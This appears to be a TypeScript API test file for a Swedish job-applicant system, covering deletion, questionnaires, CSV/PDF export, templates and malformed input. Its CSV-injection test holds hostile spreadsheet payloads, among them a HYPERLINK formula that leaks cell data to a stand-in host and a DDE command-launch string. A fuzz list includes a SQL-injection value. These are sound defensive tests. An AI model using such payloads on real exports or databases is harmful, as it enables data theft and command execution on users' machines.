  it('delete_JobApplication removes the application with its files, notes and log', async () => {
    const position = await positionWithRights();
    const mine = await buildApplication(t.db, own(), position.id);
    const storedName = FileStorage.newStoredName('pdf');
    const ref = { containerId: own(), applicationId: mine.id, storedName };
    await t.app.services.storage.write(ref, Buffer.from('%PDF-1.4'));
    await t.db.insert(applicationFiles).values({
      applicationId: mine.id,
      containerId: own(),
      propertyKey: 'form_file',
      filename: 'cv.pdf',
      storedName,
      contentType: 'application/pdf',
      size: 8,
    });
    await t.db.insert(applicationNotes).values({ containerId: own(), applicationId: mine.id, text: 'x' });
    const res = await dispatch(t.app, tokens.writer, 'delete_JobApplication', {
      containerId: own(),
      positionId: position.id,
      applicantId: mine.id,
    });
    expect(res.status).toBe(200);
    expect(res.body.data.message).toBe('Ansökan borttagen');
    expect(await t.db.select().from(jobApplications).where(eq(jobApplications.id, mine.id))).toHaveLength(0);
    expect(
      await t.db.select().from(applicationNotes).where(eq(applicationNotes.applicationId, mine.id)),
    ).toHaveLength(0);
    expect(existsSync(t.app.services.storage.pathOf(ref))).toBe(false);
    const twice = await dispatch(t.app, tokens.writer, 'delete_JobApplication', {
      containerId: own(),
      positionId: position.id,
      applicantId: mine.id,
    });
    expect(twice.status).toBe(404);
  });

  it('delete_ApplicantFromContainer removes every application of the person in the company only', async () => {
    const p1 = await positionWithRights();
    const p2 = await positionWithRights();
    const first = await buildApplication(t.db, own(), p1.id, { email: 'flera@example.se' });
    const [second] = await t.db
      .insert(jobApplications)
      .values({ containerId: own(), positionId: p2.id, userId: first.userId, metadata: {}, info: first.info })
      .returning();
    const foreignPosition = await buildPosition(t.db, world.foreign.id);
    await t.db
      .insert(jobApplications)
      .values({ containerId: world.foreign.id, positionId: foreignPosition.id, userId: first.userId });

    const writer = await dispatch(t.app, tokens.writer, 'delete_ApplicantFromContainer', {
      containerId: own(),
      userId: first.userId,
    });
    expect(writer.status).toBe(403);
    const foreign = await dispatch(t.app, tokens.foreignAdmin, 'delete_ApplicantFromContainer', {
      containerId: own(),
      userId: first.userId,
    });
    expect(foreign.status).toBe(403);
    const res = await dispatch(t.app, tokens.admin, 'delete_ApplicantFromContainer', {
      containerId: own(),
      userId: first.userId,
    });
    expect(res.status).toBe(200);
    expect(res.body.data).toMatchObject({ removed: 2, message: 'Den ansökande har tagits bort' });
    const left = await t.db.select().from(jobApplications).where(eq(jobApplications.userId, first.userId));
    expect(left.map((r) => r.containerId)).toEqual([world.foreign.id]);
    expect(second).toBeTruthy();
    // The person still has an application elsewhere: the account stays.
    expect(await t.db.select().from(users).where(eq(users.id, first.userId))).toHaveLength(1);
    // A staff member is not an applicant here.
    const none = await dispatch(t.app, tokens.admin, 'delete_ApplicantFromContainer', {
      containerId: own(),
      userId: world.reader.id,
    });
    expect(none.status).toBe(400);
  });
});

describe('questionnaire', () => {
  it('get and update the answers to the position’s skill questions', async () => {
    const position = await positionWithRights();
    const mine = await buildApplication(t.db, own(), position.id);
    const [skill] = await t.db
      .insert(skills)
      .values({ containerId: own(), name: 'Truckkörning', description: 'A- och B-truck' })
      .returning();
    const questions = await t.db
      .insert(skillQuestions)
      .values([
        { containerId: own(), skillId: skill!.id, question: 'Hur länge har du kört truck?', sortOrder: 1 },
        { containerId: own(), skillId: skill!.id, question: 'Vilka trucktyper?', sortOrder: 2 },
      ])
      .returning();
    await t.db
      .insert(positionSkills)
      .values({ containerId: own(), positionId: position.id, skillId: skill!.id });
    const at = { containerId: own(), positionId: position.id, applicantId: mine.id };
    const empty = await dispatch(t.app, tokens.reader, 'get_Questionnaire', at);
    expect(empty.status).toBe(200);
    expect(empty.body.data[0].questions.map((q: { answer: string }) => q.answer)).toEqual(['', '']);

    const saved = await dispatch(t.app, tokens.writer, 'update_Questionnaire', {
      ...at,
      skills: [{ id: skill!.id, questions: [{ id: questions[0]!.id, answer: 'Fem år' }] }],
    });
    expect(saved.status, JSON.stringify(saved.body)).toBe(200);
    expect(saved.body.data[0].questions[0]).toMatchObject({
      question: 'Hur länge har du kört truck?',
      answer: 'Fem år',
    });

    // A question of another skill, or of another company, saves nothing.
    const [otherSkill] = await t.db.insert(skills).values({ containerId: own(), name: 'Annat' }).returning();
    const [otherQuestion] = await t.db
      .insert(skillQuestions)
      .values({ containerId: own(), skillId: otherSkill!.id, question: '?' })
      .returning();
    const bad = await dispatch(t.app, tokens.writer, 'update_Questionnaire', {
      ...at,
      skills: [
        {
          id: skill!.id,
          questions: [
            { id: questions[0]!.id, answer: 'Ändrat' },
            { id: otherQuestion!.id, answer: 'x' },
          ],
        },
      ],
    });
    expect(bad.status).toBe(400);
    const rows = await t.db
      .select()
      .from(questionnaireAnswers)
      .where(eq(questionnaireAnswers.applicationId, mine.id));
    expect(rows.map((r) => r.answer)).toEqual(['Fem år']);
    expect((await dispatch(t.app, tokens.reader, 'update_Questionnaire', { ...at, skills: [] })).status).toBe(
      403,
    );
    const wrongShape = await dispatch(t.app, tokens.writer, 'update_Questionnaire', { ...at, skills: 'x' });
    expect(wrongShape.status).toBe(400);
  });
});

describe('export_Applicants', () => {
  it('exports the filtered list as CSV and as a readable PDF', async () => {
    const position = await positionWithRights();
    const interesting = await labelByName(t.db, own(), 'Intressant');
    await buildApplication(t.db, own(), position.id, {
      firstname: 'Åke',
      lastname: 'Öberg',
      labelId: interesting.id,
      answers: { summerperiodsform_1: true },
    });
    await buildApplication(t.db, own(), position.id, { firstname: 'Bortfiltrerad' });
    const csv = await dispatch(t.app, tokens.reader, 'export_Applicants', {
      containerId: own(),
      positionId: position.id,
      labelId: interesting.id,
    });
    expect(csv.status).toBe(200);
    expect(csv.body.data).toMatchObject({ contentType: 'text/csv; charset=utf-8', rows: 1 });
    expect(csv.body.data.filename).toMatch(/^sokande-.*\.csv$/);
    const text = Buffer.from(csv.body.data.data, 'base64').toString('utf8');
    const lines = text
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n');
    expect(lines).toHaveLength(2);
    expect(lines[0]).toContain('Namn;E-post');
    expect(lines[1]).toContain('Åke Öberg');
    expect(lines[1]).toContain('Intressant');
    expect(text).not.toContain('Bortfiltrerad');

    const pdf = await dispatch(t.app, tokens.reader, 'export_Applicants', {
      containerId: own(),
      positionId: position.id,
      format: 'pdf',
    });
    expect(pdf.status).toBe(200);
    const bytes = Buffer.from(pdf.body.data.data, 'base64');
    expect(bytes.subarray(0, 5).toString()).toBe('%PDF-');
    const doc = await PDFDocument.load(bytes);
    expect(doc.getPageCount()).toBe(1);
    expect(pdf.body.data.rows).toBe(2);

    const bad = await dispatch(t.app, tokens.reader, 'export_Applicants', {
      containerId: own(),
      positionId: position.id,
      format: 'xlsx',
    });
    expect(bad.status).toBe(400);
    expect(bad.body.error.fields.format).toBe('Välj CSV eller PDF');
  });

  it('neutralises every cell a spreadsheet would compute (OWASP CSV injection); numbers stay numbers', async () => {
    const position = await positionWithRights();
    const hostile = [
      ['=HYPERLINK("https://ond.example/?"&A1;"Klicka")', '+SUM(1;2)', "-2+3+cmd|' /C calc'!A0", '@SUM(A1)'],
      ['Anna', 'Andersson', '\t=1+1', '\r=1+1'],
    ];
    for (const [firstname, lastname, city, phone] of hostile)
      await buildApplication(t.db, own(), position.id, {
        firstname,
        lastname,
        answers: { form_city: city!, form_mobilePhone: phone! },
      });
    await buildApplication(t.db, own(), position.id, {
      firstname: 'Siffror',
      answers: { form_city: '-12', form_mobilePhone: '+46701234567' },
    });
    const res = await dispatch(t.app, tokens.reader, 'export_Applicants', {
      containerId: own(),
      positionId: position.id,
    });
    expect(res.status).toBe(200);
    const text = Buffer.from(res.body.data.data, 'base64')
      .toString('utf8')
      .replace(/^\uFEFF/, '');
    const cells: string[] = parseCsv(text, { delimiter: ';', relax_column_count: true }).flat();
    const formulaLike = cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d+(?:[.,]\d+)?$/.test(c));
    expect(formulaLike).toEqual([]);
    for (const value of [
      '=HYPERLINK("https://ond.example/?"&A1;"Klicka") +SUM(1;2)',
      "-2+3+cmd|' /C calc'!A0",
    ])
      expect(cells).toContain(`'${value}`);
    expect(cells).toContain("'@SUM(A1)");
    const tabAndReturn = cells.filter((c) => c.includes('=1+1'));
    expect(tabAndReturn).toHaveLength(2);
    for (const cell of tabAndReturn) expect(cell).toMatch(/^'/);
    expect(cells).toContain('-12');
    expect(cells).toContain('+46701234567');
  });
});

describe('templates', () => {
  it('lists the company e-mail templates and label templates, never another company’s', async () => {
    const foreignLabel = await labelByName(t.db, world.foreign.id, 'Ej aktuell');
    await t.db.execute(
      sql`insert into email_templates (container_id, title, subject, text) values (${world.foreign.id}, 'Främmande', 's', 't')`,
    );
    await t.db.execute(
      sql`insert into label_email_templates (container_id, label_id, name, subject, content) values (${world.foreign.id}, ${foreignLabel.id}, 'Främmande', 's', 't')`,
    );
    const mine = await dispatch(t.app, tokens.reader, 'get_EmailTemplates', { containerId: own() });
    expect(mine.status).toBe(200);
    expect(JSON.stringify(mine.body.data)).not.toContain('Främmande');
    const labelled = await dispatch(t.app, tokens.reader, 'get_LabelEmailTemplates', { containerId: own() });
    expect(JSON.stringify(labelled.body.data)).not.toContain('Främmande');
    const [container] = await t.db.select().from(containers).where(eq(containers.id, own()));
    expect(container).toBeTruthy();
  });
});

describe('create_DemoApplicants', () => {
  it('generates applicants with answers the filters find, for a superuser only', async () => {
    const position = await positionWithRights();
    const data = { containerId: own(), positionId: position.id, count: 300 };
    expect((await dispatch(t.app, tokens.admin, 'create_DemoApplicants', data)).status).toBe(403);
    const res = await dispatch(t.app, tokens.superuser, 'create_DemoApplicants', data);
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.data.created).toBe(300);
    const all = await list(tokens.reader, position.id);
    expect(all.body.data.total).toBe(300);
    const merit = await list(tokens.reader, position.id, {
      answers: [{ key: 'requirementsform_1', value: true }],
    });
    expect(merit.body.data.total).toBeGreaterThan(50);
    expect(merit.body.data.total).toBeLessThan(200);
    const unprocessed = await list(tokens.reader, position.id, { labelId: 0 });
    expect(unprocessed.body.data.total).toBe(100);
    const radio = await list(tokens.reader, position.id, {
      answers: [{ key: 'radio-group_shift', value: 'radio-group_shift_1' }],
    });
    expect(radio.body.data.total).toBeGreaterThan(50);
    expect(all.body.data.items[0].age).toBeGreaterThan(15);
    const bad = await dispatch(t.app, tokens.superuser, 'create_DemoApplicants', { ...data, count: 100_001 });
    expect(bad.status).toBe(400);
  });
});

describe('bad input', () => {
  it('never answers 500 and never saves anything, whatever each field holds', async () => {
    const position = await positionWithRights();
    const mine = await buildApplication(t.db, own(), position.id);
    const at = { containerId: own(), positionId: position.id };
    const valid: Record<string, Record<string, unknown>> = {
      get_ApplicantFilters: at,
      get_ApplicantsByPosition: { ...at, labelId: -1, answers: [], sort: 'newest', take: 30 },
      get_ApplicantById: { ...at, applicantId: mine.id },
      update_Applicant: { ...at, applicantId: mine.id, metadata: { form_city: 'Ort' }, note: 'n' },
      create_Applicant: { ...at, email: 'ny-bad@example.se', metadata: {}, labelId: 0, note: '' },
      delete_JobApplication: { ...at, applicantId: mine.id },
      update_ApplicantStatus: { ...at, labelId: 0, ids: [mine.id], labelType: 'Interest' },
      create_ApplicantNote: { ...at, applicantId: mine.id, text: 'x' },
      delete_ApplicantFromContainer: { containerId: own(), userId: mine.userId },
      get_Questionnaire: { ...at, applicantId: mine.id },
      update_Questionnaire: { ...at, applicantId: mine.id, skills: [] },
      export_Applicants: { ...at, format: 'csv' },
    };
    const weird: unknown[] = [
      null,
      {},
      [],
      [null],
      'x'.repeat(300),
      -1,
      1e20,
      2_147_483_648,
      '1; drop table users',
      'a\u0000b',
      true,
      { key: 'x', value: {} },
    ];
    const mineOnly = sql`(select id from job_applications where position_id = ${position.id})`;
    const counts = async () =>
      JSON.stringify(
        await t.db.execute(
          sql`select (select count(*) from job_applications where position_id = ${position.id}) a,
            (select count(*) from application_notes where application_id in ${mineOnly}) n,
            (select count(*) from application_log where application_id in ${mineOnly}) l,
            (select count(*) from questionnaire_answers where application_id in ${mineOnly}) q,
            (select string_agg(coalesce(label_id, 0)::text || note || metadata::text, ',' order by id)
              from job_applications where position_id = ${position.id}) s`,
        ),
      );
    for (const [action, data] of Object.entries(valid)) {
      for (const field of Object.keys(data)) {
        if (field === 'containerId' && action !== 'delete_ApplicantFromContainer') continue;
        for (const value of weird) {
          const before = await counts();
          const res = await dispatch(t.app, tokens.admin, action as 'get_Labels', {
            ...data,
            [field]: value,
          });
          const label = `${action} ${field}=${JSON.stringify(value)}`;
          expect(res.status, label).toBeLessThan(500);
          if (res.status >= 400) {
            expect(res.body.error.message, label).toMatch(/[a-zåäö]/i);
            // A refused call leaves everything as it was.
            expect(await counts(), label).toBe(before);
          }
        }
      }
    }
  }, 120_000);
});
